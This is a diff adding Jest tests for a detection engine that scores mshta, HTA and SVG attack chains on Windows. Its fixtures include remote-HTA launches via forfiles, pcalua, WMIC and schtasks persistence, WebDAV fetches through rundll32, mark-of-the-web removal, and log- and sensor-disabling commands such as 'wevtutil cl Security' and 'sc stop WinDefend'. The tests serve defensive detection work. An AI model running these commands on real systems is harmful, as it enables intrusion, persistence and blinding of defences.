@@ -16,6 +16,7 @@ import {
   SYSTEM32,
   statesOf,
   storyOf,
+  tuned,
   WORD,
   WSCRIPT,
 } from './testStory';
@@ -372,6 +373,327 @@ describe('mshta by name only', () => {
     s.starts(CMD, { parent: process });
     s.connects(process, '203.0.113.9', 443);
     expect(findingsOf(s.events(), 'AN1397')).toEqual([]);
+  });
+});
+
+/*
+ * ANALYTICS F, the rows that have no test above. 1, 5 (Explorer), 9, 10, 15-18, 24, 25 and 28 (helpers) are above or in
+ * the catalogue's own tests; each row is detected, or honestly partial or blind with its sentence.
+ */
+describe('ANALYTICS F', () => {
+  it('2: a copy without its name is known by the engine it loads, and held at 69', () => {
+    const { s } = storyOf();
+    const copy = s.starts('C:\\Users\\Public\\viewer.exe', {
+      commandLine: `viewer.exe https://files.example/a.hta`,
+      originalFileName: 'viewer.exe',
+    });
+    s.loads(copy, `${SYSTEM32}\\mshtml.dll`);
+    s.starts(POWERSHELL, { parent: copy, commandLine: 'powershell -f C:\\Users\\Public\\a.ps1' });
+    callsOut(s, copy);
+    const finding = findingOf(s.events(), 'AN1397');
+    expect(finding.status).toBe('complete');
+    expect(finding.score).toBe(69);
+    expect(JSON.stringify(finding.caps)).toMatch(/identity is inferred from behaviour/);
+  });
+
+  it.each([
+    ['forfiles', `${SYSTEM32}\\forfiles.exe`, `forfiles /p C:\\Windows /m notepad.exe /c "mshta ${URL}"`],
+    ['pcalua', `${SYSTEM32}\\pcalua.exe`, `pcalua -a mshta.exe -c ${URL}`],
+    ['conhost', `${SYSTEM32}\\conhost.exe`, `conhost.exe mshta ${URL}`],
+    ['wt', 'C:\\Program Files\\WindowsApps\\Terminal\\wt.exe', `wt.exe mshta ${URL}`],
+  ])('3: a launcher in between does not hide the document: %s', (_name, image, commandLine) => {
+    const { s } = storyOf();
+    const word = s.starts(WORD, { commandLine: `"${WORD}" "${homeOf(s)}\\Downloads\\a.docm"` });
+    const launcher = s.starts(image, { parent: word, commandLine });
+    const mshta = s.starts(MSHTA, { parent: launcher, commandLine: `mshta ${URL}` });
+    s.starts(POWERSHELL, { parent: mshta });
+    const finding = findingOf(s.events(), 'AN1397');
+    expect(finding.status).toBe('complete');
+    expect(pointsOf(finding)).toMatchObject({ L1t: 20 });
+    expect(statesOf(findingOf(s.events(), 'AN1314')).user_app).toBe('matched');
+  });
+
+  it('4: content over COM is said to have come over COM, and who reached it is a reason', () => {
+    const { s } = storyOf();
+    const dcom = s.starts(`${SYSTEM32}\\svchost.exe`, {
+      parent: s.services,
+      user: SYSTEM,
+      commandLine: 'svchost.exe -k DcomLaunch',
+    });
+    const mshta = s.starts(MSHTA, { parent: dcom, commandLine: `${MSHTA} -Embedding` });
+    s.connects(mshta, '10.20.7.31', 55_683, { direction: 'ingress' });
+    s.starts(CMD, { parent: mshta });
+    const said = findingOf(s.events(), 'AN1397')
+      .reasons.map(({ text }) => text)
+      .join('; ');
+    expect(said).toMatch(/activated over COM, without content on its command line/);
+    expect(said).toMatch(/a connection came in to it from another machine/);
+  });
+
+  it('6: WMI asked for by a document’s macro does not end the lineage', () => {
+    const { s } = storyOf();
+    const word = s.starts(WORD, { commandLine: `"${WORD}" "${homeOf(s)}\\Downloads\\a.docm"` });
+    s.starts(`${SYSTEM32}\\wbem\\WMIC.exe`, {
+      parent: word,
+      commandLine: `wmic process call create "mshta.exe ${URL}"`,
+    });
+    s.after('1s');
+    const wmi = s.starts(`${SYSTEM32}\\wbem\\WmiPrvSE.exe`, { parent: s.services, user: SYSTEM });
+    const mshta = s.starts(MSHTA, { parent: wmi, commandLine: `mshta.exe ${URL}` });
+    s.starts(POWERSHELL, { parent: mshta });
+    expect(pointsOf(findingOf(s.events(), 'AN1397'))).toMatchObject({ L1t: 20 });
+  });
+
+  it('7: a task registered by the lineage continues the chain when it runs', () => {
+    const { s } = storyOf();
+    const outlook = s.starts(OUTLOOK);
+    const document = `${mailCacheOf(s)}\\offer.docm`;
+    s.writes(outlook, document);
+    s.marks(outlook, document);
+    const word = s.starts(WORD, { parent: outlook, commandLine: `"${WORD}" "${document}"` });
+    s.starts(`${SYSTEM32}\\schtasks.exe`, {
+      parent: word,
+      commandLine: `schtasks /create /sc minute /mo 1 /tn Upd /tr "mshta.exe ${URL}"`,
+    });
+    s.after('2m');
+    const mshta = s.starts(MSHTA, { parent: s.svchost, commandLine: `mshta.exe ${URL}` });
+    callsOut(s, mshta);
+    const [finding] = findingsOf(s.events(), 'AN1314');
+    expect(finding?.status).toBe('complete');
+    const reasons = findingOf(s.events(), 'AN1397').reasons.filter(({ counted }) => counted);
+    expect(reasons.map(({ id }) => id)).toContain('L1t');
+  });
+
+  it.each([
+    [
+      'the WebDAV client',
+      (s: Scenario) => {
+        const client = s.starts(`${SYSTEM32}\\svchost.exe`, { parent: s.services, user: SYSTEM });
+        s.starts(`${SYSTEM32}\\rundll32.exe`, {
+          parent: client,
+          commandLine:
+            'rundll32.exe C:\\Windows\\system32\\davclnt.dll,DavSetCookie files.example http://files.example/pub',
+        });
+      },
+    ],
+  ])('8: what %s fetched for mshta counts as its network', (_name, tell) => {
+    const { s } = storyOf({ without: ['network_connect', 'dns_query'] });
+    s.starts(MSHTA, { commandLine: `${MSHTA} \\\\files.example@80\\pub\\a.hta` });
+    s.after('2s');
+    tell(s);
+    const finding = findingOf(s.events(), 'AN1397');
+    expect(finding.status).toBe('complete');
+    expect(pointsOf(finding)).toMatchObject({ F8d: 5 });
+    expect(finding.stages.find(({ id }) => id === 'network')?.relation?.text).toMatch(
+      /both name files\.example/,
+    );
+  });
+
+  it('9: where the source names the real creator, that is the parent', () => {
+    const { s } = storyOf();
+    const word = s.starts(WORD);
+    s.after('1s');
+    const before = s.events().length;
+    const mshta = s.starts(MSHTA, { parent: s.explorer, commandLine: `mshta ${URL}` });
+    s.starts(POWERSHELL, { parent: mshta });
+    expect(s.events().length).toBeGreaterThan(before);
+    const events = s.events().map((event) =>
+      event['process.entity_id'] === mshta.entityId && event.kind === 'process_start'
+        ? {
+            ...event,
+            'process.parent.Ext.real.entity_id': word.entityId,
+            'process.parent.Ext.real.pid': word.pid,
+            'process.parent.Ext.real.executable': word.executable,
+          }
+        : event,
+    );
+    expect(pointsOf(findingOf(events, 'AN1397'))).toMatchObject({ L1: 20 });
+  });
+
+  it('11: what runs in another process after a remote thread belongs to the chain', () => {
+    const { s } = storyOf();
+    const notepad = s.starts(`${SYSTEM32}\\notepad.exe`);
+    s.after('5m');
+    const mshta = s.starts(MSHTA, { commandLine: `mshta ${URL}` });
+    s.tells('remote_thread', mshta, {
+      'Target.process.entity_id': notepad.entityId,
+      'Target.process.pid': notepad.pid,
+      'Target.process.executable': notepad.executable,
+    });
+    s.after('2s');
+    callsOut(s, notepad);
+    const finding = findingOf(s.events(), 'AN1397');
+    expect(finding.status).toBe('complete');
+    expect(statesOf(finding).network).toBe('matched');
+    expect(finding.weakestLink.strength).toBe('inferred');
+  });
+
+  it('12: a file renamed between writing and running is followed', () => {
+    const { s } = storyOf();
+    const edge = s.starts(EDGE);
+    const folder = `${homeOf(s)}\\Downloads`;
+    s.writes(edge, `${folder}\\form.tmp`);
+    s.renames(edge, `${folder}\\form.tmp`, `${folder}\\form.hta`);
+    s.after('10s');
+    callsOut(s, s.starts(MSHTA, { commandLine: `"${MSHTA}" "${folder}\\form.hta"` }));
+    expect(findingOf(s.events(), 'AN1314').status).toBe('complete');
+  });
+
+  it('13: a program on a mounted disk image is tied to the image, whose mark it lost', () => {
+    const { s } = storyOf();
+    const edge = s.starts(EDGE);
+    const image = `${homeOf(s)}\\Downloads\\documents.iso`;
+    s.writes(edge, image);
+    s.marks(edge, image, { hostUrl: 'https://files.example/documents.iso' });
+    s.after('40s');
+    callsOut(s, s.starts(CMD, { commandLine: `${CMD} /c E:\\open.cmd` }));
+    const finding = findingOf(s.events(), 'AN1314');
+    expect(finding.status).toBe('complete');
+    expect(pointsOf(finding)).toMatchObject({ A2: 10, A3: 8, A5: 10 });
+    expect(finding.weakestLink.strength).toBe('inferred');
+  });
+
+  it('14: without a mark nothing is required, and taking one off is a reason', () => {
+    const { s } = storyOf();
+    const edge = s.starts(EDGE);
+    const script = `${homeOf(s)}\\Downloads\\tool.js`;
+    s.writes(edge, script);
+    s.marks(edge, script);
+    s.after('5s');
+    s.deletes(s.explorer, `${script}:Zone.Identifier`);
+    s.after('5s');
+    callsOut(s, s.starts(WSCRIPT, { commandLine: `"${WSCRIPT}" "${script}"` }));
+    const finding = findingOf(s.events(), 'AN1314');
+    expect(finding.status).toBe('complete');
+    expect(pointsOf(finding)).toMatchObject({ A6: 8 });
+    const bare = storyOf();
+    const browser = bare.s.starts(EDGE);
+    const unmarked = `${homeOf(bare.s)}\\Downloads\\tool.js`;
+    bare.s.writes(browser, unmarked);
+    bare.s.after('5s');
+    callsOut(bare.s, bare.s.starts(WSCRIPT, { commandLine: `"${WSCRIPT}" "${unmarked}"` }));
+    expect(findingOf(bare.s.events(), 'AN1314').status).toBe('complete');
+  });
+
+  it('16: a part of an environment variable cannot be undone, which is a reason', () => {
+    expect(pointsOf(mshtaWith(`mshta.exe https://files.example/%comspec:~0,1%.hta`))).toMatchObject({
+      X11s: 10,
+    });
+  });
+
+  it('17: content by clipboard or registry is said to be invisible', () => {
+    const finding = mshtaWith('mshta.exe form');
+    expect(finding.status).toBe('complete');
+    expect(finding.reasons.map(({ text }) => text).join()).toMatch(/where it came from is not visible/);
+  });
+
+  it.each(['about:internet', 'blob:https://page.example/1', 'data:text/html;base64,AA'])(
+    '19: a page that made its own file ties it to the SVG: %s',
+    (hostUrl) => {
+      const { s } = storyOf();
+      const edge = s.starts(EDGE);
+      const svg = `${homeOf(s)}\\Downloads\\plan.svg`;
+      s.writes(edge, svg);
+      s.marks(edge, svg);
+      s.after('9s');
+      s.starts(EDGE, { commandLine: `"${EDGE}" ${svg}` });
+      s.after('4s');
+      const script = `${homeOf(s)}\\Downloads\\plan.js`;
+      s.writes(edge, script);
+      s.marks(edge, script, { hostUrl });
+      s.after('20s');
+      s.starts(WSCRIPT, { commandLine: `"${WSCRIPT}" "${script}"` });
+      const finding = findingOf(s.events(), 'AN1407');
+      expect(finding.status).toBe('complete');
+      expect(pointsOf(finding)).toMatchObject({ S2: 30 });
+    },
+  );
+
+  it('20: an SVG shown inside the mail program is followed through its web view; otherwise the gap is said', () => {
+    const { s } = storyOf();
+    const view = s.starts(
+      'C:\\Program Files (x86)\\Microsoft\\EdgeWebView\\Application\\msedgewebview2.exe',
+      {
+        parent: s.starts(OUTLOOK),
+      },
+    );
+    const svg = `${homeOf(s)}\\AppData\\Local\\Microsoft\\Olk\\Attachments\\ooa-1\\plan.svg`;
+    s.writes(view, svg);
+    s.marks(view, svg);
+    s.after('8s');
+    s.starts(MSHTA, { parent: view, commandLine: `${MSHTA} ${svg}` });
+    const finding = findingOf(s.events(), 'AN1407');
+    expect(finding.status).toBe('complete');
+    expect(finding.knownGaps.join()).toMatch(/shown inside the mail or chat program/);
+  });
+
+  it('21: a page in place of an SVG is followed where the place says that pages count', () => {
+    const { s } = storyOf();
+    const edge = s.starts(EDGE);
+    const page = `${homeOf(s)}\\Downloads\\invoice.html`;
+    s.writes(edge, page);
+    s.marks(edge, page);
+    s.after('9s');
+    s.starts(MSHTA, { commandLine: `${MSHTA} ${page}` });
+    expect(findingsOf(s.events(), 'AN1407')).toEqual([]);
+    const pages = tuned('AN1407', { FileExtensionPattern: ['svg', 'svgz', 'html'] });
+    expect(findingsOf(s.events(), 'AN1407', pages).map(({ status }) => status)).toEqual(['complete']);
+  });
+
+  it('22: a call out after two hours is late: no completion, three points', () => {
+    const { s } = storyOf();
+    const mshta = s.starts(MSHTA, { commandLine: `mshta ${URL}` });
+    s.after('2h');
+    callsOut(s, mshta);
+    const finding = findingOf(s.events(), 'AN1397');
+    expect(finding.status).toBe('partial');
+    expect(pointsOf(finding)).toMatchObject({ late: 3 });
+  });
+
+  it('23: an ordinary destination is judged ordinary and still counts as the call out', () => {
+    const { s } = storyOf();
+    const mshta = s.starts(MSHTA, { commandLine: `mshta ${URL}` });
+    s.resolves(mshta, 'tenant.sharepoint.example', ['198.51.100.3']);
+    s.connects(mshta, '198.51.100.3', 443);
+    const finding = findingOf(s.events(), 'AN1397');
+    expect(finding.status).toBe('complete');
+    expect(pointsOf(finding)).toMatchObject({ F7: 5 });
+  });
+
+  it.each(['wevtutil.exe cl Security', 'fltmc.exe unload SysmonDrv', 'sc.exe stop WinDefend'])(
+    '25: doing away with the sensor is a reason: %s',
+    (commandLine) => {
+      const { s } = storyOf();
+      const mshta = s.starts(MSHTA, { commandLine: `mshta ${URL}` });
+      const image = `${SYSTEM32}\\${commandLine.slice(0, commandLine.indexOf(' '))}`;
+      s.starts(image, { parent: mshta, commandLine });
+      expect(pointsOf(findingOf(s.events(), 'AN1397'))).toMatchObject({ evasion_log: 10 });
+    },
+  );
+
+  it('26: a sensor clock eight hours off costs no stage', () => {
+    const { s } = storyOf();
+    const mshta = s.starts(MSHTA, { commandLine: `mshta ${URL}` });
+    s.connects(mshta, '203.0.113.9', 443, { sensorClock: '-8h' });
+    expect(statesOf(findingOf(s.events(), 'AN1397')).network).toBe('matched');
+  });
+
+  it('27: a line as long as its source can record is said to be perhaps cut', () => {
+    const finding = mshtaWith(`mshta.exe https://files.example/${'a'.repeat(8_200)}`);
+    expect(finding.reasons.map(({ text }) => text).join()).toMatch(/may have cut it/);
+  });
+
+  it('28: an allowed source lowers only when it is the source, not when it is mentioned', () => {
+    const allowed = tuned('AN1397', { AllowedHTASources: ['portal.corp.example'] });
+    const told = (commandLine: string) => {
+      const { s } = storyOf();
+      s.starts(POWERSHELL, { parent: s.starts(MSHTA, { commandLine }) });
+      return pointsOf(findingsOf(s.events(), 'AN1397', allowed)[0] ?? never());
+    };
+    expect(told('mshta https://portal.corp.example/a.hta')).toMatchObject({ B1: -40 });
+    expect(told('mshta https://files.example/a.hta?portal.corp.example')).not.toHaveProperty('B1');
+    expect(told('mshta https://evilportal.corp.example.files.example/a.hta')).not.toHaveProperty('B1');
+    expect(told('mshta https://portal.corp.example@files.example/a.hta')).not.toHaveProperty('B1');
   });
 });
 
